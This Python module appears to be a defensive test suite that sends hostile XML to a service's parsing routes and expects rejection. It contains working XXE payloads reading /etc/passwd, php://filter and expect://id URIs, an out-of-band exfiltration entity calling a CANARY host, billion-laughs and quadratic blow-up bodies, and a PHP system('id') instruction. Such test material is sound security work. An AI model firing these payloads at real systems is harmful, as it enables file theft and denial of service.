"""XML 1.0: entities that read files or grow, and documents that take more than they send."""

# ruff: noqa: E501 - a line an input
from __future__ import annotations

from hostile.case import Bytes, Case, Post

_DTD = '<!DOCTYPE order [<!ENTITY x SYSTEM "file://PLANTED">]>'
_NAMED = "<order><name>&x;</name></order>"
_GOOD = "<order><name>a</name></order>"
_XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
_ROUTES = ("/xml", "/xpath", "/xslt", "/xsd", "/any")
MB = 1024 * 1024


def declared(charset: str, text: str) -> bytes:
    """A document that declares its charset; where that hides `<`, the declaration is ASCII."""
    head = f'<?xml version="1.0" encoding="{charset}"?>'
    return (
        head.encode() + text.encode(charset)
        if charset == "utf-7"
        else (head + text).encode(charset)
    )


def _many(name: str, count: int) -> str:
    return " ".join(f'{name.format(i)}="u"' for i in range(count))


def _laughs() -> str:
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)]
    return f"<!DOCTYPE order [{''.join(lines)}]><order><name>&l9;</name></order>"


def _entities() -> dict[str, Bytes]:
    inside = {
        "an external entity": _DTD + _NAMED,
        "an external entity nobody uses": _DTD + _GOOD,
        "an external entity of the system": _DTD.replace("PLANTED", "/etc/passwd") + _NAMED,
        "an external entity of the web": '<!DOCTYPE o [<!ENTITY x SYSTEM "http://CANARY/e">]>'
        + _NAMED,
        "an external entity of FTP": '<!DOCTYPE o [<!ENTITY x SYSTEM "ftp://CANARY/e">]>' + _NAMED,
        "a public entity": '<!DOCTYPE o [<!ENTITY x PUBLIC "-//X//Y" "http://CANARY/e">]>' + _NAMED,
        "an entity of PHP": '<!DOCTYPE o [<!ENTITY x SYSTEM "php://filter/read=x/resource=/etc/passwd">]>'
        + _NAMED,
        "an entity of expect": '<!DOCTYPE o [<!ENTITY x SYSTEM "expect://id">]>' + _NAMED,
        "an entity of Java's jar": '<!DOCTYPE o [<!ENTITY x SYSTEM "jar:http://CANARY/x!/y">]>'
        + _NAMED,
        "a parameter entity": '<!DOCTYPE o [<!ENTITY % d SYSTEM "http://CANARY/e.dtd"> %d;]>'
        + _GOOD,
        "a parameter entity of a file": '<!DOCTYPE o [<!ENTITY % d SYSTEM "file://PLANTED"> %d;]>'
        + _GOOD,
        "parameter entities that put one together": '<!DOCTYPE o [<!ENTITY % f SYSTEM "file://PLANTED"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://CANARY/?%f;\'>">%e;%s;]>'
        + _GOOD,
        "an external subset": '<!DOCTYPE o SYSTEM "http://CANARY/e.dtd">' + _GOOD,
        "an external subset of a file": '<!DOCTYPE o SYSTEM "file://PLANTED">' + _GOOD,
        "a local DTD made over": '<!DOCTYPE o [<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % c "x">%l;]>'
        + _GOOD,
        "a public subset": '<!DOCTYPE o PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://CANARY/x">'
        + _GOOD,
        "an empty DOCTYPE": "<!DOCTYPE order>" + _GOOD,
        "an internal entity": '<!DOCTYPE o [<!ENTITY x "a">]>' + _NAMED,
        "an entity in an attribute": _DTD.replace('SYSTEM "file://PLANTED"', '"a"')
        + '<order a="&x;"/>',
        "an unparsed entity": '<!DOCTYPE o [<!NOTATION n SYSTEM "http://CANARY/n"><!ENTITY x SYSTEM "http://CANARY/x" NDATA n>]>'
        + _GOOD,
        "an attribute that is given by a DTD": '<!DOCTYPE order [<!ATTLIST order a CDATA "b">]>'
        + _GOOD,
        "an ID by a DTD": "<!DOCTYPE order [<!ATTLIST order a ID #IMPLIED>]><order a='x'/>",
        "an element by a DTD": "<!DOCTYPE order [<!ELEMENT order ANY>]>" + _GOOD,
        "a DOCTYPE behind a comment": "<!-- x -->" + _DTD + _NAMED,
        "a DOCTYPE behind an instruction": "<?x y?>" + _DTD + _NAMED,
        "a DOCTYPE behind 60 KB": "<!--" + "x" * 60_000 + "-->" + _DTD + _NAMED,
        "a conditional section": '<!DOCTYPE o [<![INCLUDE[<!ENTITY x "a">]]>]>' + _NAMED,
        "billion laughs": _laughs(),
        "quadratic blow-up": f'<!DOCTYPE o [<!ENTITY x "{"a" * 100_000}">]><order>{"&x;" * 2000}</order>',
        "quadratic blow-up of parameters": '<!DOCTYPE o [<!ENTITY % a "'
        + "x" * 10_000
        + '">'
        + "<!ENTITY b '%a;'>" * 500
        + "]>"
        + _GOOD,
        "an entity in itself": '<!DOCTYPE o [<!ENTITY x "&x;">]>' + _NAMED,
        "two entities in each other": '<!DOCTYPE o [<!ENTITY x "&y;"><!ENTITY y "&x;">]>' + _NAMED,
        "100,000 entities": "<!DOCTYPE o ["
        + "".join(f'<!ENTITY e{i} "{i}">' for i in range(100_000))
        + "]>"
        + _GOOD,
        "a DOCTYPE of 10 MB": lambda: "<!DOCTYPE o [<!--" + "x" * 10 * MB + "-->]>" + _GOOD,
        "a DOCTYPE within": "<order>" + _DTD + "</order>",
        "an entity nobody declared": _NAMED,
    }
    return inside


def _malformed() -> dict[str, Bytes]:
    return {
        "nothing": "",
        "white space": " \n",
        "text": "order",
        "JSON": '{"name": 1}',
        "an image": b"GIF89a\0\1\xff",
        "a character that XML lacks": "<order>&#0;</order>",
        "a raw NUL": "<order>\0</order>",
        "an escape": "<order>\x1b</order>",
        "a surrogate": "<order>&#xD800;</order>",
        "a character beyond Unicode": "<order>&#x110000;</order>",
        "a character number of 10,000 digits": f"<order>&#{'9' * 10_000};</order>",
        "two roots": _GOOD * 2,
        "an end that never comes": "<order><name>",
        "an end of something else": "<order></name>",
        "an attribute twice": '<order a="" a=""/>',
        "one attribute by two prefixes": '<order xmlns:a="u" xmlns:b="u" a:x="" b:x=""/>',
        "a prefix nobody declared": "<no:order/>",
        "xml for something else": '<order xmlns:xml="urn:x"/>',
        "xmlns as a prefix": '<order xmlns:xmlns="urn:x"/>',
        "a prefix taken back": '<order xmlns:a=""/>',
        "an attribute without quotes": "<order a=b/>",
        "a < in an attribute": '<order a="<"/>',
        "]]> in a text": "<order>]]></order>",
        "-- in a comment": "<order><!-- a -- b --></order>",
        "a declaration in the middle": "<order><?xml version='1.0'?></order>",
        "a declaration behind a space": " <?xml version='1.0'?>" + _GOOD,
        "two declarations": "<?xml version='1.0'?><?xml version='1.0'?>" + _GOOD,
        "version 2.0": "<?xml version='2.0'?>" + _GOOD.replace("a", "\0"),
        "a CDATA that never ends": "<order><![CDATA[",
        "a comment that never ends": "<order><!--",
        "an instruction that never ends": "<order><?x",
        "bytes that are no UTF-8": b"<order>\xff</order>",
        "overlong UTF-8": b"<order>\xc0\xbc</order>",
        "UTF-8 of a surrogate": b"<order>\xed\xa0\x80</order>",
        "a declaration that lies": b'<?xml version="1.0" encoding="utf-16"?><order/>',
        "a charset nobody knows": '<?xml version="1.0" encoding="x-no"?><order/>',
        "half of a UTF-16 letter": "<order/>".encode("utf-16")[:-1],
        "100,000 deep": "<a>" * 100_000 + "</a>" * 100_000,
        "300 deep": "<a>" * 300 + "</a>" * 300,
        "300 deep, each with a namespace": "".join(f'<a xmlns="u{i}">' for i in range(300))
        + "</a>" * 300,
    }


def _large() -> dict[str, tuple[Bytes, str, tuple[int, ...]]]:
    n = MB
    return {
        "1,001 attributes": (lambda: f"<order {_many('a{}', 1001)}/>", "/xpath", (200, 413)),
        "100,000 attributes": (lambda: f"<order {_many('a{}', 100_000)}/>", "/xpath", (413,)),
        "1.2 M attributes": (lambda: f"<order {_many('a{:x}', 900_000)}/>", "/xpath", (413,)),
        "20,000 namespaces": (lambda: f"<order {_many('xmlns:n{}', 20_000)}/>", "/xpath", (413,)),
        "100,000 attributes in UTF-16": (
            lambda: declared("utf-16", f"<order {_many('a{}', 100_000)}/>"),
            "/xpath",
            (413,),
        ),
        "1,000 attributes on 1,000 elements": (
            lambda: "<order>" + f"<a {_many('a{}', 900)}/>" * 1000 + "</order>",
            "/xpath",
            (200, 413),
        ),
        "10 MB of elements": (
            lambda: "<order>" + "<a/>" * (10 * n // 4) + "</order>",
            "/xpath",
            (413,),
        ),
        "240,000 elements": (lambda: "<order>" + "<a/>" * 240_000 + "</order>", "/xpath", (200,)),
        "240,000 elements for a stylesheet": (
            lambda: "<order>" + "<line>a</line>" * 240_000 + "</order>",
            "/xslt",
            (200,),
        ),
        "240,000 elements for a schema": (
            lambda: "<order><name>a</name>" + "<line>a</line>" * 240_000 + "</order>",
            "/xsd",
            (200,),
        ),
        "240,000 mistakes for a schema": (
            lambda: "<order>" + "<no/>" * 240_000 + "</order>",
            "/xsd",
            (400,),
        ),
        "240,000 elements as JSON": (
            lambda: "<order>" + "<a>1</a>" * 240_000 + "</order>",
            "/any",
            (200,),
        ),
        "240,000 names as JSON": (
            lambda: "<order>" + "".join(f"<a{i:x}/>" for i in range(240_000)) + "</order>",
            "/any",
            (200, 413),
        ),
        "240,000 names": (
            lambda: "<order>" + "".join(f"<a{i:x}/>" for i in range(240_000)) + "</order>",
            "/xpath",
            (200, 413),
        ),
        "a prefix for each element": (
            lambda: (
                "<order>"
                + "".join(f'<n{i}:a xmlns:n{i}="u{i}"/>' for i in range(200_000))
                + "</order>"
            ),
            "/xpath",
            (200, 413),
        ),
        "255 deep, each with 100 namespaces": (
            lambda: (
                "".join(
                    "<a " + " ".join(f'xmlns:n{i}_{j}="u"' for j in range(100)) + ">"
                    for i in range(250)
                )
                + "</a>" * 250
            ),
            "/xpath",
            (200, 413),
        ),
        "10 MB of text": (
            lambda: f"<order><name>{'a' * (10 * n)}</name></order>",
            "/xpath",
            (200, 400),
        ),
        "10 MB of one text for a pattern": (
            lambda: f"<order><name>{'a' * (9 * n)}</name></order>",
            "/xsd",
            (200, 400),
        ),
        "a text that a pattern backtracks on": (
            "<order><name>" + "a" * 40_000 + "!</name></order>",
            "/xsd",
            (400,),
        ),
        "10 MB of white space": (lambda: f"<order>{' ' * (9 * n)}</order>", "/xpath", (200, 400)),
        "a comment of 10 MB": (
            lambda: f"<order><!--{'a' * (10 * n)}--></order>",
            "/xpath",
            (200, 400),
        ),
        "10 MB of comments": (
            lambda: f"<order>{'<!---->' * (10 * n // 7)}</order>",
            "/xpath",
            (200, 413),
        ),
        "10 MB of instructions": (
            lambda: f"<order>{'<?a?>' * (2 * n)}</order>",
            "/xpath",
            (200, 413),
        ),
        "an instruction of 10 MB": (
            lambda: f"<order><?a {'b' * (10 * n)}?></order>",
            "/xpath",
            (200, 400),
        ),
        "10 MB of CDATA": (
            lambda: f"<order>{'<![CDATA[]]>' * (10 * n // 12)}</order>",
            "/xpath",
            (200, 413),
        ),
        "10 MB of references": (
            lambda: f"<order>{'&amp;' * (2 * n)}</order>",
            "/xpath",
            (200, 400),
        ),
        "10 MB of numbers of characters": (
            lambda: f"<order>{'&#38;' * (2 * n)}</order>",
            "/xpath",
            (200, 400),
        ),
        "a name of 10 MB": (lambda: f"<{'a' * (10 * n)}/>", "/xpath", (200, 400)),
        "a namespace of 10 MB": (
            lambda: f'<order xmlns="urn:{"a" * (9 * n)}"/>',
            "/xpath",
            (200, 400),
        ),
        "an attribute of 10 MB": (lambda: f'<order a="{"a" * (10 * n)}"/>', "/xpath", (200, 400)),
        "an attribute of 9 MB with spaces": (
            lambda: f'<order a="{" a" * (9 * n // 2)}"/>',
            "/xpath",
            (200, 400),
        ),
        "10 MB before the root": (lambda: "\n" * (10 * n) + "<order/>", "/xpath", (200, 400)),
        "10 MB of <": (lambda: "<" * (10 * n), "/xpath", (400, 413)),
        "10 MB of = in a tag": (lambda: "<a " + "=" * (10 * n), "/xpath", (400, 413)),
        "10 MB of quotes in a tag": (lambda: "<a b=" + "\"'" * (5 * n), "/xpath", (400, 413)),
        "tags of 2,400 bytes": (
            lambda: "<a>" + ("<b c='" + "=" * 2400 + "'/>") * 4000 + "</a>",
            "/xpath",
            (200, 413),
        ),
        "10 MB of UTF-16": (
            lambda: declared("utf-16", "<order>" + "<a/>" * 240_000 + "</order>"),
            "/xpath",
            (200, 413),
        ),
        "10 MB of items of a stream": (
            lambda: "<orders>" + "<order><name>a</name></order>" * 20_000 + "</orders>",
            "/split-xml",
            (200,),
        ),
        "one item of a stream of 10 MB": (
            lambda: "<orders><order>" + "<a/>" * 2_400_000 + "</order></orders>",
            "/split-xml",
            (200, 400, 413),
        ),
        "a stream that is 1,000 deep": ("<orders>" * 1000, "/split-xml", (400,)),
        "a stream with a DOCTYPE": (
            _DTD + "<orders><order><name>&x;</name></order></orders>",
            "/split-xml",
            (400,),
        ),
        "a stream with a DOCTYPE behind 900 KB": (
            "<!--"
            + "x" * 900_000
            + "-->"
            + _DTD
            + "<orders><order><name>&x;</name></order></orders>",
            "/split-xml",
            (400,),
        ),
        "a stream with 2 MB before its root": (
            "<!--" + "x" * 2_000_000 + "-->" + "<orders/>",
            "/split-xml",
            (413,),
        ),
    }


def cases() -> list[Case]:
    """All."""
    found = [
        Case(
            "xml", f"{name}, {path[1:]}", Post(path, body, "application/xml"), (400,), "bad-message"
        )
        for name, body in _entities().items()
        for path in (_ROUTES[:2] if "MB" not in name else _ROUTES[1:2])
    ]
    found += [
        Case(
            "xml",
            f"an external entity, {path[1:]}",
            Post(path, _DTD + _NAMED, "application/xml"),
            (400,),
            "bad-message",
        )
        for path in _ROUTES[2:]
    ]
    found += [
        Case(
            "xml",
            f"an external entity in {charset}",
            Post("/xml", declared(charset, _DTD + _NAMED), "application/xml"),
            (400,),
            "bad-message",
        )
        for charset in (
            "utf-16",
            "utf-16-le",
            "utf-16-be",
            "utf-32",
            "utf-32-le",
            "utf-32-be",
            "utf-7",
            "iso-8859-1",
            "windows-1252",
            "cp037",
            "cp500",
            "shift_jis",
            "gb18030",
            "big5",
            "euc-jp",
            "hz",
            "iso-2022-jp",
        )
    ]
    found += [
        Case(
            "xml",
            f"an external entity, told as {charset}",
            Post("/xml", (_DTD + _NAMED).encode(coding), f"application/xml; charset={charset}"),
            (400, 415),
            "bad-message|unsupported",
        )
        for charset, coding in (
            ("utf-16", "utf-16"),
            ("utf-16le", "utf-16-le"),
            ("utf-32", "utf-32"),
            ("utf-7", "utf-7"),
            ("ibm037", "cp037"),
            ("ebcdic-cp-us", "cp037"),
            ("hz-gb-2312", "hz"),
            ("us-ascii", "ascii"),
            ("iso-2022-jp", "iso2022_jp"),
        )
    ]
    found += [
        Case("xml", name, Post("/xpath", body, "application/xml"), (400,), "bad-message")
        for name, body in _malformed().items()
    ]
    found += [
        Case("xml", name, Post(path, body, "application/xml"), statuses)
        for name, (body, path, statuses) in _large().items()
    ]
    harmless = {
        "an XInclude of a file": f'<order {_XI}><name><xi:include parse="text" href="file://PLANTED"/></name></order>',
        "an XInclude of the web": f'<order {_XI}><xi:include href="http://CANARY/x"/></order>',
        "an XInclude with a fallback": f'<order {_XI}><xi:include href="http://CANARY/x"><xi:fallback/></xi:include></order>',
        "a stylesheet": '<?xml-stylesheet type="text/xsl" href="http://CANARY/x.xsl"?>' + _GOOD,
        "a schema of the sender's": '<order xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:noNamespaceSchemaLocation="http://CANARY/x.xsd"><name>a</name></order>',
        "a schema of the sender's in a file": '<order xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:x file://PLANTED"><name>a</name></order>',
        "a base": '<order xml:base="http://CANARY/"><name>a</name></order>',
        "a link": '<order xmlns:x="http://www.w3.org/1999/xlink" x:href="http://CANARY/"><name>a</name></order>',
        "an instruction of PHP": "<order><?php system('id')?><name>a</name></order>",
        "a namespace of XSLT": '<order xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="document(\'file://PLANTED\')"/><name>a</name></order>',
        "a stylesheet that writes": '<order xmlns:e="http://exslt.org/common" e:version="1"><e:document href="PLANTED"/><name>a</name></order>',
    }
    found += [
        Case("xml", f"{name}, {path[1:]}", Post(path, body, "application/xml"), (200, 400))
        for name, body in harmless.items()
        for path in ("/xml", "/xslt", "/xsd")
    ]
    # Nobody reads what is only passed on; whoever does refuses it there.
    found.append(
        Case("xml", "what passes unread", Post("/proxy", _GOOD, "application/xml"), (200,))
    )
    return found
